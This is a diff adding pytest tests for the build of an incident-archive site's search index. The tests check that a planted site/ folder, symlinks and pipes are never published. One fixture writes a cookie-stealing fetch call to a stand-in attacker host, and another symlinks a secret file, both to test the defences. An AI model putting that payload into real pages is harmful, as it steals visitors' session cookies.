@@ -4,8 +4,10 @@ byte, and the index stays whole (every file it names is there, under the hash of
 
 from __future__ import annotations
 
+import errno
 import gzip
 import json
+import os
 import random
 import re
 import shutil
@@ -20,7 +22,7 @@ import pytest
 import archive.incremental
 import archive.pagefind_files
 from archive.pagefind_files import pagefind_hash, read_index_file
-from archive.pipeline import Project, build, check
+from archive.pipeline import APP_DIR, Project, build, check
 from archive.search import FILTERS, PagefindService, SearchIndexError, index_records, make_reproducible, search_records
 from conftest import REPO, TODAY, VALID_INCIDENT, TinyArchive
 from test_pipeline import clean_build, random_edit
@@ -475,8 +477,8 @@ def test_a_shard_whose_cached_keys_do_not_give_its_name_is_indexed_whole(tmp_pat
     build(tiny.project, today=TODAY)
     cache = tiny.root / ".cache" / "search-shards.json"
     stored = json.loads(cache.read_text(encoding="utf-8"))
-    [(name, keys)] = stored["entries"].items()
-    stored["entries"][name] = [*keys[1:], keys[0]]
+    [(name, keys)] = stored["entries"]["shards"].items()
+    stored["entries"]["shards"][name] = [*keys[1:], keys[0]]
     cache.write_text(json.dumps(stored), encoding="utf-8")
     asked = record_pagefinds_records(monkeypatch)
     irpin = tiny.root / "incidents" / "2025" / "2025-05-12-strike-on-irpin.yaml"
@@ -504,6 +506,93 @@ def test_an_earlier_shard_that_cannot_be_read_is_indexed_whole_and_the_index_is_
     shutil.copytree(tiny.root, clean, ignore=shutil.ignore_patterns("site", ".cache", "site-offline"))
     build(Project(root=clean), today=TODAY)
     assert content(tiny.root / "site" / "pagefind") == content(clean / "site" / "pagefind")
+
+
+def test_a_site_that_came_with_the_repository_is_never_taken_into_the_new_index(tmp_path, monkeypatch):
+    """A pull request can add site/ (git add -f), with an index named as a build of its tree would name it and a
+    script of its own: a build with no cache that says the last build wrote that site indexes everything anew,
+    publishing none of it."""
+    monkeypatch.setattr("archive.search.SHARD_RECORDS", 1)
+    tiny = three_months(tmp_path / "archive")
+    build(tiny.project, today=TODAY)
+    index = tiny.root / "site" / "pagefind"
+    planted = {index / "pagefind.js": b"fetch('https://attacker.example/' + document.cookie)"}
+    for shard in (index / "shards").iterdir():
+        fragment = sorted((shard / "fragment").iterdir())[0]
+        planted[fragment] = gzip.compress(b'pagefind_dcd{"url":"https://attacker.example/","meta":{"title":"Planted"}}')
+    for path, body in planted.items():
+        path.unlink()
+        path.write_bytes(body)
+    shutil.rmtree(tiny.root / ".cache")  # as a fresh clone has none
+    build(tiny.project, today=TODAY)
+    published = tree(index)
+    assert not [path for path, body in published.items() if body in planted.values()]
+    clean = tmp_path / "clean"
+    shutil.copytree(tiny.root, clean, ignore=shutil.ignore_patterns("site", ".cache", "site-offline"))
+    build(Project(root=clean), today=TODAY)
+    assert content(index) == content(clean / "site" / "pagefind")
+
+
+def test_links_and_fifos_in_the_last_index_are_neither_followed_nor_published(tmp_path, monkeypatch):
+    """What lies in site/ beside the last build's files is left out of the files the next build keeps from it."""
+    monkeypatch.setattr("archive.search.SHARD_RECORDS", 1)
+    tiny = three_months(tmp_path / "archive")
+    build(tiny.project, today=TODAY)
+    secret = tmp_path / "secret.txt"
+    secret.write_text("the contents of a file outside the repository")
+    index = tiny.root / "site" / "pagefind"
+    april = next(shard for shard in (index / "shards").iterdir() if shard.name.startswith("2025-04"))
+    (april / "fragment" / "en_leak.pf_fragment").symlink_to(secret)
+    (index / "leak.js").symlink_to(secret)
+    (april / "linked-folder").symlink_to(tmp_path, target_is_directory=True)
+    os.mkfifo(index / "pipe")
+    change_may(tiny, "edit")
+    build(tiny.project, today=TODAY)
+    kept = [Path(folder) / name for folder, folders, files in os.walk(index) for name in folders + files]
+    assert not [path for path in kept if path.is_symlink() or not (path.is_file() or path.is_dir())]
+    assert not [path for path in kept if path.is_file() and b"outside the repository" in path.read_bytes()]
+    assert {path.name for path in kept}.isdisjoint({"en_leak.pf_fragment", "leak.js", "linked-folder", "pipe"})
+
+
+def test_a_file_system_without_hard_links_builds_the_index_a_clean_build_gives(tmp_path, monkeypatch):
+    """Some file systems (FAT, exFAT, some shared folders) have no hard links: what a build keeps of the last one is copied."""
+    monkeypatch.setattr("archive.search.SHARD_RECORDS", 1)
+    tiny = three_months(tmp_path / "archive")
+    build(tiny.project, today=TODAY)
+
+    def no_links(*arguments, **options):
+        raise OSError(errno.EPERM, "Operation not permitted")
+
+    with monkeypatch.context() as without_links:
+        without_links.setattr(os, "link", no_links)
+        for change in ("edit", "addition"):  # the second build keeps the first's index, which it copied
+            change_may(tiny, change)
+            build(tiny.project, today=TODAY)
+    clean = tmp_path / "clean"
+    shutil.copytree(tiny.root, clean, ignore=shutil.ignore_patterns("site", ".cache", "site-offline"))
+    build(Project(root=clean), today=TODAY)
+    assert content(tiny.root / "site" / "pagefind") == content(clean / "site" / "pagefind")
+
+
+def test_a_build_without_the_index_keeps_the_last_one_only_while_it_is_right(tmp_path):
+    """`build --no-search` keeps the last index when no page changed and its records would be the same: not after a
+    change of what records hold and pages do not show (a weapon's aliases, which search finds), nor after one of our code."""
+    tiny = three_months(tmp_path / "archive")
+    data = tiny.root / "data"
+    shutil.copytree(APP_DIR / "data", data)
+    project = Project(root=tiny.root, data_dir=data)
+    build(project, today=TODAY)
+    index = tiny.root / "site" / "pagefind"
+    before = tree(index)
+    may = tiny.root / "incidents" / "2025" / "2025-05-12-strike-on-a-kyiv-depot.yaml"
+    may.write_text(may.read_text(encoding="utf-8") + "# a curator's note: no page shows it\n", encoding="utf-8")
+    assert not build(project, today=TODAY, with_search=False).up_to_date
+    assert tree(index) == before
+    weapons = data / "weapons.yaml"
+    weapons.write_text(weapons.read_text(encoding="utf-8").replace("aliases: [Shahed, Geran-2, Geran]", "aliases: [Shahed, Geran-2, Geran, Shahid]"),
+                       encoding="utf-8")
+    assert not build(project, today=TODAY, with_search=False).up_to_date
+    assert not index.exists()  # the last index would not find Shahid: no index until a build makes one
 
 
 @pytest.mark.slow
